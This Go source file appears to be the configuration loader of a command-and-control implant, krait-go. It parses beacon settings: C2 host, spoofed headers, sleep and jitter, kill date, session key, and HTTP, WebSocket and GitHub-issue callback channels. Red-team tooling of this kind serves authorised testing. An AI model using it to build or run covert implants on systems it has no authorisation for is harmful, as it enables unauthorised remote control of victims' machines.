// SPDX-FileCopyrightText: 2026 The krait-go Authors
//
// SPDX-License-Identifier: GPL-3.0-or-later

package main

import (
	"fmt"
	"time"

	log "github.com/sirupsen/logrus"

	"github.com/BurntSushi/toml"
	"github.com/google/uuid"

	"github.com/krait-c2/krait-go/pkg/channel"
	"github.com/krait-c2/krait-go/pkg/profile"
	"github.com/krait-c2/krait-go/pkg/task"
	"github.com/krait-c2/krait-go/pkg/wire"
)

// tomlConfig describes the TOML-configuration.
type tomlConfig struct {
	Agent     agentConf
	Logging   logConf
	HTTP      httpConf      `toml:"http"`
	WebSocket websocketConf `toml:"websocket"`
	GitHub    githubConf    `toml:"github"`
}

// agentConf describes the Agent-configuration block.
type agentConf struct {
	Host       string
	Port       int
	TLS        bool
	Profile    string
	UserAgent  string `toml:"user-agent"`
	HostHeader string `toml:"host-header"`
	Headers    map[string]string

	Sleep    string
	Jitter   int
	KillDate string `toml:"kill-date"`

	SessionKey string `toml:"session-key"`
	AgentID    string `toml:"agent-id"`

	Profiling bool
}

// logConf describes the Logging-configuration block.
type logConf struct {
	Level        string
	ReportCaller bool `toml:"report-caller"`
	Format       string
}

// httpConf describes the HTTP-profile block.
type httpConf struct {
	Method         string
	URI            string
	QueryParameter string `toml:"query-parameter"`
}

// websocketConf describes the WebSocket-profile block.
type websocketConf struct {
	Path string
}

// githubConf describes the GitHub-profile block.
type githubConf struct {
	Token        string
	Owner        string
	Repository   string
	Branch       string
	ClientIssue  int    `toml:"client-issue"`
	ServerIssue  int    `toml:"server-issue"`
	RequestFile  string `toml:"request-file"`
	ResponseFile string `toml:"response-file"`
	PollInterval string `toml:"poll-interval"`
	PollAttempts int    `toml:"poll-attempts"`
}

// parseLogging configures logrus from the Logging block.
func parseLogging(conf logConf) {
	if conf.Level != "" {
		if lvl, err := log.ParseLevel(conf.Level); err != nil {
			log.WithFields(log.Fields{
				"level":    conf.Level,
				"error":    err,
				"provided": "panic,fatal,error,warn,info,debug,trace",
			}).Warn("Failed to set log level. Please select one of the provided ones")
		} else {
			log.SetLevel(lvl)
		}
	}

	log.SetReportCaller(conf.ReportCaller)

	switch conf.Format {
	case "", "text":
		log.SetFormatter(&log.TextFormatter{
			FullTimestamp:   true,
			TimestampFormat: "15:04:05.000",
		})

	case "json":
		log.SetFormatter(&log.JSONFormatter{
			TimestampFormat: time.RFC3339Nano,
		})

	default:
		log.Warn("Unknown logging format")
	}
}

// parseProfileConfig maps the TOML blocks to a profile.Config.
func parseProfileConfig(conf tomlConfig) (profile.Config, error) {
	cfg := profile.Config{
		Host:       conf.Agent.Host,
		Port:       conf.Agent.Port,
		TLS:        conf.Agent.TLS,
		UserAgent:  conf.Agent.UserAgent,
		HostHeader: conf.Agent.HostHeader,
		Headers:    conf.Agent.Headers,

		HTTP: profile.HTTPConfig{
			Method:         conf.HTTP.Method,
			URI:            conf.HTTP.URI,
			QueryParameter: conf.HTTP.QueryParameter,
		},
		WebSocket: profile.WebSocketConfig{
			Path: conf.WebSocket.Path,
		},
		GitHub: profile.GitHubConfig{
			Token:        conf.GitHub.Token,
			Owner:        conf.GitHub.Owner,
			Repository:   conf.GitHub.Repository,
			Branch:       conf.GitHub.Branch,
			ClientIssue:  conf.GitHub.ClientIssue,
			ServerIssue:  conf.GitHub.ServerIssue,
			RequestFile:  conf.GitHub.RequestFile,
			ResponseFile: conf.GitHub.ResponseFile,
			PollAttempts: conf.GitHub.PollAttempts,
		},
	}

	if cfg.Host == "" {
		return cfg, fmt.Errorf("agent.host is empty")
	}

	if conf.GitHub.PollInterval != "" {
		interval, err := time.ParseDuration(conf.GitHub.PollInterval)
		if err != nil {
			return cfg, fmt.Errorf("github.poll-interval: %w", err)
		}
		cfg.GitHub.PollInterval = interval
	}

	return cfg, nil
}

// parseAgent creates the agent's building blocks from the given TOML
// configuration: the profile Manager, the secure Channel and the Engine.
func parseAgent(filename string) (manager *profile.Manager, engine *task.Engine, profiling bool, err error) {
	var conf tomlConfig
	if _, err = toml.DecodeFile(filename, &conf); err != nil {
		return
	}

	parseLogging(conf.Logging)

	profileConfig, err := parseProfileConfig(conf)
	if err != nil {
		return
	}

	key, err := wire.KeyFromBase64(conf.Agent.SessionKey)
	if err != nil {
		err = fmt.Errorf("agent.session-key: %w", err)
		return
	}

	agentID := uuid.New()
	if conf.Agent.AgentID != "" {
		if agentID, err = uuid.Parse(conf.Agent.AgentID); err != nil {
			err = fmt.Errorf("agent.agent-id: %w", err)
			return
		}
	}

	sleep := 30 * time.Second
	if conf.Agent.Sleep != "" {
		if sleep, err = time.ParseDuration(conf.Agent.Sleep); err != nil {
			err = fmt.Errorf("agent.sleep: %w", err)
			return
		}
	}

	engineConfig := task.EngineConfig{}
	if conf.Agent.KillDate != "" {
		if engineConfig.KillDate, err = time.Parse(time.RFC3339, conf.Agent.KillDate); err != nil {
			err = fmt.Errorf("agent.kill-date: %w", err)
			return
		}
	}

	log.WithFields(log.Fields{
		"profile": conf.Agent.Profile,
		"sleep":   sleep,
		"jitter":  conf.Agent.Jitter,
	}).Debug("Parsed agent configuration")

	manager = profile.NewManager(conf.Agent.Profile, profileConfig)

	sleeper := channel.NewSleeper(sleep, conf.Agent.Jitter)
	ch := channel.New(manager, key, agentID, sleeper)
	engine = task.NewEngine(engineConfig, ch, sleeper, task.NewHandlerMux())

	profiling = conf.Agent.Profiling
	return
}
